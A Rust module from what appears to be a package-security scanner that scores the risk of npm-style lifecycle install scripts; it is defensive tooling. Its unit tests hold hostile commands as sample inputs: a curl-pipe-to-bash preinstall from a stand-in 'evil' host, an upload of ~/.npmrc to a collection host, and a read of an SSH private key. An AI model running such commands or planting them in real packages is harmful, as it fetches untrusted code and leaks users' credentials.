//! Lifecycle-script risk analysis.

use crate::patterns::{scan, severity_weight, LIFECYCLE_PATTERNS};
use pkgpulse_core::LifecycleScriptRisk;
use std::collections::BTreeMap;

/// Lifecycle hooks the analyzer inspects.
pub const LIFECYCLE_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preuninstall",
    "postuninstall",
    "prepare",
    "prepublish",
];

/// Hooks that execute on consumer machines at install time.
pub const DANGEROUS_HOOKS: &[&str] = &["preinstall", "install", "postinstall"];

/// Analyze the manifest `scripts` mapping.
pub fn analyze_lifecycle_scripts(scripts: &BTreeMap<String, String>) -> LifecycleScriptRisk {
    let mut risk = LifecycleScriptRisk::default();

    for hook in LIFECYCLE_HOOKS {
        let Some(command) = scripts.get(*hook) else {
            continue;
        };
        match *hook {
            "preinstall" => risk.has_preinstall = true,
            "install" => risk.has_install = true,
            "postinstall" => risk.has_postinstall = true,
            "preuninstall" => risk.has_preuninstall = true,
            "postuninstall" => risk.has_postuninstall = true,
            "prepare" => risk.has_prepare = true,
            "prepublish" => risk.has_prepublish = true,
            _ => {}
        }
        risk.scripts.insert(hook.to_string(), command.clone());

        for finding in scan(&LIFECYCLE_PATTERNS, command, hook) {
            match finding.pattern_type.as_str() {
                "network_call" | "pipe_to_shell" | "url_literal" => risk.has_network_calls = true,
                "credential_access" => risk.has_credential_access = true,
                "runtime_install" => risk.installs_runtime = true,
                "base64_decode" => risk.has_obfuscation = true,
                "node_execution" => risk.has_process_spawn = true,
                "env_access" => risk.has_env_access = true,
                _ => {}
            }
            risk.suspicious_patterns.push(finding);
        }
    }

    // Pipe-to-shell both fetches and executes.
    if risk
        .suspicious_patterns
        .iter()
        .any(|p| p.pattern_type == "pipe_to_shell")
    {
        risk.has_process_spawn = true;
    }

    risk.risk_score = score_scripts(&risk);
    risk.risk_factors = risk_factors(&risk);
    risk
}

/// Additive script risk, clipped to 100:
/// +30 preinstall, +20 postinstall, +15 install; per detected pattern by
/// severity; +20 obfuscation, +25 credential access, +30 runtime install,
/// +20 for network combined with credential access.
fn score_scripts(risk: &LifecycleScriptRisk) -> u32 {
    let mut score: u32 = 0;
    if risk.has_preinstall {
        score += 30;
    }
    if risk.has_postinstall {
        score += 20;
    }
    if risk.has_install {
        score += 15;
    }
    for pattern in &risk.suspicious_patterns {
        score += severity_weight(pattern.severity);
    }
    if risk.has_obfuscation {
        score += 20;
    }
    if risk.has_credential_access {
        score += 25;
    }
    if risk.installs_runtime {
        score += 30;
    }
    if risk.has_network_calls && risk.has_credential_access {
        score += 20;
    }
    score.min(100)
}

fn risk_factors(risk: &LifecycleScriptRisk) -> Vec<String> {
    let mut factors = Vec::new();
    if risk.has_preinstall {
        factors.push("preinstall script runs before any inspection".to_string());
    }
    if risk.installs_runtime {
        factors.push("installs an alternative runtime at install time".to_string());
    }
    if risk.has_credential_access {
        factors.push("lifecycle script references credentials".to_string());
    }
    if risk.has_network_calls {
        factors.push("lifecycle script performs network calls".to_string());
    }
    if risk.has_obfuscation {
        factors.push("lifecycle script decodes embedded content".to_string());
    }
    factors
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scripts(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
        entries
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn no_scripts_is_zero_risk() {
        let risk = analyze_lifecycle_scripts(&scripts(&[("test", "jest")]));
        assert_eq!(risk.risk_score, 0);
        assert!(risk.scripts.is_empty());
        assert!(!risk.has_postinstall);
    }

    #[test]
    fn benign_prepare_scores_low() {
        let risk = analyze_lifecycle_scripts(&scripts(&[("prepare", "husky install")]));
        assert!(risk.has_prepare);
        assert!(risk.risk_score < 25);
        assert!(!risk.has_network_calls);
    }

    #[test]
    fn curl_pipe_bash_preinstall_lands_in_critical_band() {
        let risk = analyze_lifecycle_scripts(&scripts(&[(
            "preinstall",
            "curl https://evil.example/x.sh | bash",
        )]));
        assert!(risk.has_preinstall);
        assert!(risk.has_network_calls);
        assert!(risk.has_process_spawn);
        // +30 preinstall, +25 pipe-to-shell, +15 network, +8 URL literal.
        assert_eq!(risk.risk_score, 78);
    }

    #[test]
    fn runtime_install_detected_and_scored() {
        let risk = analyze_lifecycle_scripts(&scripts(&[(
            "postinstall",
            "curl -fsSL https://bun.sh/install | bash",
        )]));
        assert!(risk.installs_runtime);
        assert!(risk.risk_score >= 70);
    }

    #[test]
    fn credential_with_network_gets_compound_penalty() {
        let with_both = analyze_lifecycle_scripts(&scripts(&[(
            "postinstall",
            "curl -T ~/.npmrc https://collect.example/",
        )]));
        assert!(with_both.has_credential_access);
        assert!(with_both.has_network_calls);
        let only_net =
            analyze_lifecycle_scripts(&scripts(&[("postinstall", "curl https://cdn.example/a")]));
        assert!(with_both.risk_score > only_net.risk_score);
    }

    #[test]
    fn score_clips_at_100() {
        let risk = analyze_lifecycle_scripts(&scripts(&[
            ("preinstall", "curl https://a.example/x | sh && base64 -d payload && cat ~/.ssh/id_rsa"),
            ("install", "npm install -g bun"),
            ("postinstall", "node setup.js"),
        ]));
        assert_eq!(risk.risk_score, 100);
    }
}
